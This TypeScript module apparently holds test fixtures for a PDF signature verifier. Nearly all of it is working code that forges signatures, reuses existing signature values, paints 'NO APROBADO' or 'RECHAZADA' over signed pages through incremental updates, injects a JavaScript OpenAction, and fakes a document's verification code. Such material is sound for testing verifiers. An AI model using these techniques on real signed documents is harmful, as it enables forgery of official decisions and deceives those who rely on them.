  const ref = signatureObject(reader, fieldName);
  const raw = rawObject(pdf, ref.num).toString('latin1');
  const close = raw.lastIndexOf('>>');
  const rewritten = `${raw.slice(0, close)}/ByteRange [0 100 200 300]${raw.slice(close)}\n`;
  return rawUpdate(pdf, [{ num: ref.num, bytes: Buffer.from(rewritten, 'latin1') }]);
}

/** Universal signature forgery: a new signed-looking field whose signature dictionary is `sig`. */
export function forgedSignatureField(pdf: Buffer, sig: PdfDict): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        V: update.add(sig),
        Rect: [320, 40, 566, 112],
        F: 132,
        P: pageRef,
        AP: dict({
          N: update.add(
            appearance(
              246,
              72,
              `0 g BT /Helv 11 Tf 6 50 Td ${lit('Firmado digitalmente por')} Tj 0 -16 Td ${lit('Intendente Municipal')} Tj ET`,
            ),
          ),
        }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

export const usfNoContents = (pdf: Buffer) =>
  forgedSignatureField(
    pdf,
    dict({
      Type: name('Sig'),
      Filter: name('Adobe.PPKLite'),
      SubFilter: name('ETSI.CAdES.detached'),
      Name: PdfString.text('Intendente Municipal'),
      M: PdfString.latin1("D:20260301120000-03'00'"),
    }),
  );
export const usfZeroByteRange = (pdf: Buffer) =>
  forgedSignatureField(
    pdf,
    dict({
      Type: name('Sig'),
      Filter: name('Adobe.PPKLite'),
      SubFilter: name('ETSI.CAdES.detached'),
      ByteRange: [0, 0, 0, 0],
      Contents: new PdfString(Buffer.alloc(64), true),
      M: PdfString.latin1("D:20260301120000-03'00'"),
    }),
  );

// ---------------------------------------------------------------------------------------------
// What the allow-list trusts without looking: a field's /V, a widget written in place, the
// trailer's /Info, a /Rect made of references

/** A signature block painted over the page: "APROBADO" in red and a signer line. */
function approvedBlock(update: IncrementalUpdate): PdfRef {
  return update.add(
    appearance(
      246,
      72,
      `1 1 1 rg 0 0 246 72 re f 1 0 0 rg BT /Helv 20 Tf 6 44 Td ${lit('NO APROBADO')} Tj ET 0 g BT /Helv 9 Tf 6 20 Td ${lit('Firmado digitalmente por Intendente Municipal')} Tj ET`,
    ),
  );
}

/**
 * A new visible signature field whose /V is the signature dictionary Firma1 already holds: the
 * new field reads as a second valid signature of the same revision, and its widget paints a
 * block of its own over the page in an update nothing signs.
 */
export function reusedSignatureValue(pdf: Buffer, fieldName = 'Firma1'): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        V: signatureObject(reader, fieldName),
        Rect: [320, 560, 566, 632],
        F: 4,
        P: pageRef,
        AP: dict({ N: approvedBlock(update) }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

/** A new visible signature field whose /V is not a signature at all (the number 0): no signature, yet "filled". */
export function dummyValueSignatureField(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        V: 0,
        Rect: [320, 560, 566, 632],
        F: 4,
        P: pageRef,
        AP: dict({ N: approvedBlock(update) }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

/** A visible, empty signature widget written directly in the page's /Annots array (no object of its own). */
export function directSignatureWidget(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    addAnnotation(
      update,
      reader,
      pageRef,
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        Rect: [320, 560, 566, 632],
        F: 4,
        P: pageRef,
        AP: dict({ N: approvedBlock(update) }),
      }),
    );
  });
}

/** A visible, empty signature field whose /Rect numbers are indirect objects (viewers resolve them). */
export function indirectRectSignatureField(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const rect = [320, 560, 566, 632].map((n) => update.add(n));
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        Rect: rect,
        F: 4,
        P: pageRef,
        AP: dict({ N: approvedBlock(update) }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

/**
 * A visible, empty signature field with no /AP but a white background in /MK: a viewer that
 * draws the field's appearance characteristics (poppler) paints a white box over the heading.
 */
export function backgroundOnlySignatureField(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('Firma9'),
        Rect: [36, 625, 576, 700],
        F: 4,
        P: pageRef,
        MK: dict({ BG: [1, 1, 1] }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

/**
 * Two updates: a signature field with a visible /Rect and no appearance (paints nothing), then
 * the field "signed" with Firma1's signature dictionary and given an appearance.
 */
export function emptyFieldFilledWithReusedValue(pdf: Buffer, fieldName = 'Firma1'): Buffer {
  let fieldRefNum = 0;
  const first = withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Sig'),
        T: PdfString.text('FirmaPendiente'),
        Rect: [320, 560, 566, 632],
        F: 4,
        P: pageRef,
      }),
    );
    fieldRefNum = widget.num;
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
  return withUpdate(first, (update, reader) => {
    const ref = new PdfRef(fieldRefNum, 0);
    update.set(
      ref,
      copyOf(update, ref)
        .set('V', signatureObject(reader, fieldName))
        .set('AP', dict({ N: approvedBlock(update) })),
    );
  });
}

/** The number stamp Sello1 (an empty field Firma1 locks) "signed" with Firma1's signature dictionary and restamped. */
export function restampSelloWithReusedValue(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const sello = fieldRef(reader, 'Sello1');
    const ap = update.add(
      appearance(
        240,
        36,
        `1 1 1 rg 0 0 240 36 re f 0 g BT /Helv 10 Tf 4 22 Td ${lit('Número: IF-2026-00009999-MVE-INTEN')} Tj 0 -14 Td ${lit('Villa Esperanza, 2 de enero de 2026')} Tj ET`,
      ),
    );
    update.set(
      sello,
      copyOf(update, sello)
        .set('V', signatureObject(reader, 'Firma1'))
        .set('AP', dict({ N: ap })),
    );
  });
}

/**
 * The trailer's /Info pointed at `target` (the first page, or the catalog), which the same
 * update changes: whatever object /Info names is taken for the document information dictionary.
 */
function withInfoAt(
  pdf: Buffer,
  target: (reader: PdfReader) => PdfRef,
  change: (update: IncrementalUpdate, reader: PdfReader) => void,
): Buffer {
  const reader = new PdfReader(pdf);
  const update = new IncrementalUpdate(reader);
  change(update, reader);
  const built = update.build().bytes;
  const ref = target(reader);
  // The trailer (or the cross-reference stream's dictionary) is the last dictionary written.
  const table = built.lastIndexOf('trailer');
  const at = table >= 0 ? table : built.lastIndexOf('endobj', built.lastIndexOf('/XRef'));
  const tail = built.subarray(at).toString('latin1');
  const edited = /\/Info \d+ \d+ R/.test(tail)
    ? tail.replace(/\/Info \d+ \d+ R/, `/Info ${ref.num} ${ref.gen} R`)
    : tail.replace(/\/Prev /, `/Info ${ref.num} ${ref.gen} R/Prev `);
  assert.notEqual(edited, tail, 'the trailer names the object as /Info');
  return Buffer.concat([pdf, built.subarray(0, at), Buffer.from(edited, 'latin1')]);
}

/** /Info names the first page, whose /Contents gains a stream painting "RECHAZADA" over the text. */
export function infoNamesPageContentAdded(pdf: Buffer): Buffer {
  return withInfoAt(
    pdf,
    (reader) => pageRefs(reader)[0]!,
    (update, reader) => {
      const pageRef = pageRefs(reader)[0]!;
      const page = copyOf(update, pageRef);
      const draw = update.add(
        stream(`q 1 1 1 rg 300 560 300 80 re f Q q 1 0 0 rg BT /HelvT 28 Tf 310 590 Td ${lit('RECHAZADA')} Tj ET Q`),
      );
      const contents = page.get('Contents');
      const resources = (reader.resolveDict(page.get('Resources')) ?? dict({})).clone();
      const fonts = (reader.resolveDict(resources.get('Font')) ?? dict({})).clone();
      fonts.set(
        'HelvT',
        dict({
          Type: name('Font'),
          Subtype: name('Type1'),
          BaseFont: name('Helvetica'),
          Encoding: name('WinAnsiEncoding'),
        }),
      );
      resources.set('Font', fonts);
      page.set('Resources', resources);
      const save = update.add(stream('q'));
      const restore = update.add(stream('Q'));
      page.set('Contents', [
        save,
        ...(Array.isArray(reader.resolve(contents)) ? (reader.resolve(contents) as PdfRef[]) : [contents as PdfRef]),
        restore,
        draw,
      ]);
      update.set(pageRef, page);
    },
  );
}

/** /Info names the catalog, which gains an /OpenAction running JavaScript. */
export function infoNamesCatalogOpenAction(pdf: Buffer): Buffer {
  return withInfoAt(pdf, catalogRef, (update, reader) => {
    const root = catalogRef(reader);
    update.set(
      root,
      copyOf(update, root).set(
        'OpenAction',
        dict({ S: name('JavaScript'), JS: PdfString.latin1("app.alert('Documento anulado');") }),
      ),
    );
  });
}

/**
 * pyHanko (IncrementalPdfFileWriter): a document time-stamp whose own field is visible, in the
 * same revision, its widget painting a block over the page. Arguments: input, output, TSA URL.
 */
const VISIBLE_TIMESTAMP_PY = `
import sys
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils import generic
from pyhanko.sign import signers, timestamps, fields
src, dst, url = sys.argv[1:4]
with open(src, 'rb') as f:
    w = IncrementalPdfFileWriter(f)
    fields.append_signature_field(w, fields.SigFieldSpec('SelloTiempo9', on_page=0, box=(320, 560, 566, 632)))
    form = w.root['/AcroForm']
    field_ref = [r for r in form['/Fields'] if r.get_object().get('/T') == 'SelloTiempo9'][0]
    field = field_ref.get_object()
    font = generic.DictionaryObject({generic.NameObject('/Type'): generic.NameObject('/Font'), generic.NameObject('/Subtype'): generic.NameObject('/Type1'), generic.NameObject('/BaseFont'): generic.NameObject('/Helvetica')})
    ap = generic.StreamObject({
        generic.NameObject('/Type'): generic.NameObject('/XObject'), generic.NameObject('/Subtype'): generic.NameObject('/Form'),
        generic.NameObject('/BBox'): generic.ArrayObject([generic.NumberObject(0), generic.NumberObject(0), generic.NumberObject(246), generic.NumberObject(72)]),
        generic.NameObject('/Resources'): generic.DictionaryObject({generic.NameObject('/Font'): generic.DictionaryObject({generic.NameObject('/Helv'): font})}),
    }, stream_data=b'1 1 1 rg 0 0 246 72 re f 1 0 0 rg BT /Helv 20 Tf 6 44 Td (NO APROBADO) Tj ET 0 g BT /Helv 9 Tf 6 20 Td (Firmado digitalmente por Intendente Municipal) Tj ET')
    field[generic.NameObject('/AP')] = generic.DictionaryObject({generic.NameObject('/N'): w.add_object(ap)})
    field[generic.NameObject('/F')] = generic.NumberObject(4)
    w.mark_update(field_ref)
    with open(dst, 'wb') as out:
        signers.PdfTimeStamper(timestamps.HTTPTimeStamper(url), field_name='SelloTiempo9').timestamp_pdf(w, 'sha256', output=out)
`;

/** A document time-stamp (authority at `tsaUrl`) whose own widget paints "NO APROBADO" over the page. */
export async function visibleTimestampWidget(pdf: Buffer, tsaUrl: string): Promise<Buffer> {
  const file = await saveTemp(pdf, 'to-stamp-visibly.pdf');
  const r = await run('python3', ['-c', VISIBLE_TIMESTAMP_PY, file, `${file}.ts.pdf`, tsaUrl]);
  assert.equal(r.code, 0, r.stderr);
  return readFile(`${file}.ts.pdf`);
}

// ---------------------------------------------------------------------------------------------
// Bytes after the end, truncation

export const garbageAfterEof = (pdf: Buffer) =>
  Buffer.concat([pdf, Buffer.from('\n<html><script>document.write("RECHAZADA")</script></html>\n', 'latin1')]);

/** Cut 120 bytes before the end: inside the last revision's cross-reference section. */
export const truncateLastRevision = (pdf: Buffer) => pdf.subarray(0, pdf.length - 120);

/** Cut in the middle of the first signed revision (the one the first signature closes). */
export function truncateFirstSignedRevision(pdf: Buffer): Buffer {
  const ends = revisionEnds(pdf);
  const reader = new PdfReader(pdf);
  const sig = reader.resolveDict(signatureObject(reader, 'Firma1'))!;
  const [, , c, d] = reader.resolve(sig.get('ByteRange')) as number[];
  const end = c! + d!;
  const start = ends.filter((e) => e < end).at(-1) ?? 0;
  return pdf.subarray(0, Math.floor((start + end) / 2));
}

/** The registered first revision: the render before the first signature. */
export function firstRevision(pdf: Buffer): Buffer {
  return pdf.subarray(0, revisionEnds(pdf)[0]);
}

// ---------------------------------------------------------------------------------------------
// Forged codes

/** A new PDF that prints a real document's number and verification code over other text. */
export async function forgedCodePdf(number: string, code: string): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([612, 792]);
  const grouped = code.replace(/(.{4})(?=.)/g, '$1-');
  const lines: [string, number, number][] = [
    ['Municipalidad de Villa Esperanza', 16, 740],
    [`Número: ${number}`, 11, 710],
    ['Referencia: Obra Calle 9', 12, 660],
    ['RECHAZADA, se ordena la demolición', 14, 620],
    ['##FIN_TEXTO##', 8, 590],
    [`Código de verificación: ${grouped}`, 10, 80],
  ];
  for (const [text, size, y] of lines) page.drawText(text, { x: 60, y, size, font });
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}
